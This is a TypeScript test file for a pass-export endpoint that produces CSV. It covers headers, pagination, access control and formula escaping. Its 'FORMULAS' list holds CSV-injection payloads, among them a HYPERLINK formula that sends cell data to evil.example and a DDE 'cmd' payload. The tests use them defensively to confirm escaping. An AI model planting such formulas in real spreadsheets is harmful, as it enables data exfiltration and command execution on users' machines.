// /batch/export.php: the data of a template's passes as CSV. What it answers is read by a parser that did not write it.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { PAYLOADS } from '../fixtures/http/payloads.ts';
import { stored } from '../fixtures/http/stored.ts';
import { OWNER, openTestApp, pointsTemplate, type TestApp } from '../fixtures/open-app.ts';

const NAME = 'structure_secondaryFields_name_value';
const POINTS = 'structure_headerFields_points_value';
let t: TestApp;
beforeAll(async () => {
  t = await openTestApp();
});
afterAll(() => t.close());

const get = (query: Record<string, string>, headers: Record<string, string> = {}) =>
  t.fetch(`/batch/export.php?${new URLSearchParams(query)}`, { headers });
async function session(): Promise<string> {
  const login = await t.fetch('/login', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' },
    body: new URLSearchParams(OWNER).toString(),
  });
  return login.headers.get('set-cookie')!.split(';')[0]!;
}
async function table(templateHash: string, more: Record<string, string> = {}): Promise<string[][]> {
  const response = await get({ templateHash, clientHash: t.clientHash, ...more });
  const text = await response.text();
  expect([response.status, response.status === 200 || text]).toEqual([200, true]);
  return parse(text, { bom: true });
}
const templateWith = (additional: Record<string, string | number>, parts = {}) =>
  t.template(pointsTemplate({ additional: { note: '', ...additional }, ...parts }), { templateName: 'Café "Points"' });

describe('the file', () => {
  test('one row a pass in order of creation, a column for each path; magic strings say what they say of the pass', async () => {
    const templateHash = await templateWith({
      psExportPaths: ` hashedSerialNumber, ${NAME},storeCard_headerFields_points_value ,card,psScanText,psPassURL,${NAME}`,
      card: `{${NAME}} has {${POINTS}} points`,
      psScanText: '{card}!',
    });
    const passes = [
      await t.pass(templateHash),
      await t.pass(templateHash, { [NAME]: 'Ada, "Countess"\nof Lovelace', [POINTS]: -2.5 }),
      await t.pass(templateHash, { [NAME]: '{clientHash} Grüße 日本', [POINTS]: '-7' }),
    ];
    const response = await get({ templateHash, clientHash: t.clientHash });
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="Caf-Points-passes.csv"',
      'cache-control': 'private, no-store',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
    });
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const url = (pass: string) => `http://passes.test/pass/create.php?hashedSerialNumber=${pass}`;
    expect(parse(Buffer.from(bytes), { bom: true })).toEqual([
      ['hashedSerialNumber', NAME, 'storeCard_headerFields_points_value', 'card', 'psScanText', 'psPassURL'],
      [passes[0], 'Guest', '0', 'Guest has 0 points', 'Guest has 0 points!', url(passes[0]!)],
      [
        passes[1],
        'Ada, "Countess"\nof Lovelace',
        '-2.5',
        'Ada, "Countess"\nof Lovelace has -2.5 points',
        'Ada, "Countess"\nof Lovelace has -2.5 points!',
        url(passes[1]!),
      ],
      [passes[2], ' Grüße 日本', '-7', ' Grüße 日本 has -7 points', ' Grüße 日本 has -7 points!', url(passes[2]!)],
    ]);
    // Numbers are no texts, and every line ends as RFC 4180 says.
    const lines = Buffer.from(bytes).toString('utf8').split('\r\n');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toContain(',0,');
  });

  test('containers are JSON, what a pass has not is empty, and a row of nothing is a row', async () => {
    const templateHash = await templateWith({ psExportPaths: 'note' });
    for (const note of ['', 'x', '']) await t.pass(templateHash, { note });
    expect(await table(templateHash)).toEqual([['note'], [''], ['x'], ['']]);
    const lists = await templateWith({ psExportPaths: 'barcode,expirationDate' });
    await t.pass(lists);
    const [, [barcode, date]] = (await table(lists)) as [string[], string[]];
    expect([JSON.parse(barcode!).format, date]).toEqual(['PKBarcodeFormatQR', '']);
  });

  test('psExportPaths may be put together by magic strings', async () => {
    const templateHash = await templateWith({ psExportPaths: '{mine},note', mine: `hashedSerialNumber,${NAME}` });
    const pass = await t.pass(templateHash);
    expect(await table(templateHash)).toEqual([
      ['hashedSerialNumber', NAME, 'note'],
      [pass, 'Guest', ''],
    ]);
  });

  test('no hash needs the apostrophe that keeps a spreadsheet from running a text', () => {
    const { ids } = t.app.context;
    const tokens = Array.from({ length: 2000 }, () => ids.token());
    expect(tokens.filter((token) => !/^\w[\w-]{31}$/.test(token))).toEqual([]);
  });

  test('at most 1000 passes from &start= on', async () => {
    const templateHash = await templateWith({ psExportPaths: 'note' });
    for (let from = 0; from < 1003; from += 59) {
      const some = Array.from({ length: Math.min(59, 1003 - from) }, (_, index) => String(from + index));
      for (const note of some) await t.pass(templateHash, { note });
    }
    const column = async (start?: string) =>
      (await table(templateHash, start === undefined ? {} : { start })).slice(1).map(([note]) => note);
    const all = Array.from({ length: 1003 }, (_, index) => String(index));
    expect(await column()).toEqual(all.slice(0, 1000));
    expect(await column('1000')).toEqual(all.slice(1000));
    expect(await column('1')).toEqual(all.slice(1, 1001));
    expect(await column('1003')).toEqual([]);
    const second = await get({ templateHash, clientHash: t.clientHash, start: '1000' });
    expect(second.headers.get('content-disposition')).toBe('attachment; filename="Caf-Points-passes-from-1001.csv"');
  });
});

describe('what a holder wrote', () => {
  const FORMULAS = [
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '-2 apples',
    '--1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '-',
    '"=1+1"',
    "'=1+1",
    'a,=1+1',
    'a\n=1+1',
    'a"=1+1',
  ];

  test('is text in a cell of its own, and no formula', async () => {
    const templateHash = await templateWith({
      psExportPaths: `${NAME},about,${NAME.replace('value', 'label')}`,
      about: `{${NAME}}`,
    });
    const texts = [...PAYLOADS, ...FORMULAS];
    for (const text of texts) {
      const made = await t.call('createPassFromTemplateFields', { templateHash, [NAME]: text });
      expect(made.success, text).toBe(true);
    }
    const rows = (await table(templateHash)).slice(1);
    expect(rows).toHaveLength(texts.length);
    for (const [index, text] of texts.entries()) {
      const cell = rows[index]![0]!;
      expect(cell, text).toBe(/^[=+\-@\t\r\n＝]/.test(text) ? `'${text}` : text);
      expect(rows[index]).toEqual([cell, cell, 'NAME']);
      expect(cell).not.toMatch(/^[=+\-@\t\r\n＝]/);
    }
  });

  test('is a number where it is one', async () => {
    const templateHash = await templateWith({ psExportPaths: NAME });
    const numbers = ['-1', '-12.50', '0', '3.5', '007', '+4917012345', '+49 170 1234567', '+49 (0)170/123-45', '-1,5'];
    for (const number of numbers) await t.call('createPassFromTemplateFields', { templateHash, [NAME]: number });
    expect((await table(templateHash)).slice(1).flat()).toEqual(numbers);
  });
});

test('raw=true is for programs, headings=label for people', async () => {
  const templateHash = await templateWith({ psExportPaths: `${NAME},note,hashedSerialNumber`, note: NOTE as never });
  const pass = await t.pass(templateHash, { [NAME]: '=1+1', note: '@x' });
  const csv = async (more: string) =>
    (await t.fetch(`/batch/export.php?templateHash=${templateHash}&clientHash=${t.clientHash}${more}`)).text();
  expect(await csv('&raw=true')).toBe(`"${NAME}","note","hashedSerialNumber"\r\n"=1+1","@x","${pass}"\r\n`);
  expect(await csv('&headings=label')).toBe(`"Your name","Remark","hashedSerialNumber"\r\n"'=1+1","'@x","${pass}"\r\n`);
  expect(await csv('&headings=other')).toContain('headings');
});

const NOTE = { PSValue: '', PSLabel: 'Remark' };

describe('who may', () => {
  const paths = { psExportPaths: 'hashedSerialNumber,secret,editor,psEditorURL,clientHash,psInformationURL,note' };
  let templateHash: string;
  beforeAll(async () => {
    const secrets = { secret: '{clientHash}', editor: '{psEditorURL}', psInformationURL: '{psEditorURL}' };
    templateHash = await templateWith({ ...paths, ...secrets });
    await t.pass(templateHash, { note: `copied: ${t.clientHash}` });
  });

  test('the owner and the owner’s manager; the clientHash is in no cell', async () => {
    for (const row of await table(templateHash)) expect(row.join()).not.toContain(t.clientHash.slice(0, 12));
    const { clientHash } = await t.account('branch@example.com', OWNER.email);
    const own = await t.call('insertUpdateTemplate', {
      clientHash,
      templateName: 'Branch',
      passConstructor: pointsTemplate({ additional: { note: '', psExportPaths: 'note' } }),
    });
    expect(await table(own.templateHash)).toEqual([['note']]);
    expect((await get({ templateHash: own.templateHash, clientHash })).status).toBe(200);
  });

  test('a session of the owner', async () => {
    const cookie = await session();
    const response = await get({ templateHash }, { cookie });
    expect([response.status, response.headers.get('content-type')]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
    ]);
  });

  test('nobody else; a page says why, and no byte of data is sent', async () => {
    const stranger = await t.account('stranger@example.com');
    const before = stored(t);
    const cases: readonly (readonly [Record<string, string>, number, RegExp])[] = [
      [{ templateHash }, 401, /Log in to export passes, or add your clientHash to the link\./],
      [{ templateHash, clientHash: 'wrong' }, 401, /The clientHash is not valid\./],
      [{ templateHash, clientHash: stranger.clientHash }, 403, /This template belongs to another account\./],
      [{ templateHash: 'absent', clientHash: t.clientHash }, 404, /no template with this templateHash/],
      [{ clientHash: t.clientHash }, 400, /The parameter templateHash is missing\./],
      [{ templateHash, clientHash: t.clientHash, start: '-1' }, 400, /start must be 0 or more\./],
      [{ templateHash, clientHash: t.clientHash, start: 'x' }, 400, /start must be a whole number\./],
    ];
    for (const [query, status, message] of cases) {
      const response = await get(query);
      expect([query, response.status, await response.text()]).toEqual([query, status, expect.stringMatching(message)]);
      expect(response.headers.get('content-type')).toMatch(/^text\/html/);
    }
    expect(stored(t)).toEqual(before);
  });

  test('a template that names what it does not have is told so', async () => {
    const templateHash = await templateWith({ psExportPaths: 'note,nothing,structure_none' });
    const response = await get({ templateHash, clientHash: t.clientHash });
    const message = /psExportPaths of this template names nothing, structure_none, which/;
    expect([response.status, await response.text()]).toEqual([400, expect.stringMatching(message)]);
  });

  test.each([{}, { psExportPaths: ' , ' }])('a template that names nothing exports all values: %o', async (given) => {
    const templateHash = await templateWith({ ...given, psScanText: 'Hello' });
    const pass = await t.pass(templateHash, { [NAME]: 'Ada' });
    const [headings, row] = await table(templateHash);
    expect(headings!.slice(0, 3)).toEqual(['hashedSerialNumber', POINTS, NAME]);
    expect(row!.slice(0, 3)).toEqual([pass, '0', 'Ada']);
    expect(headings).toContain('note');
    expect(headings!.filter((name) => name.startsWith('ps'))).toEqual([]);
  });
});
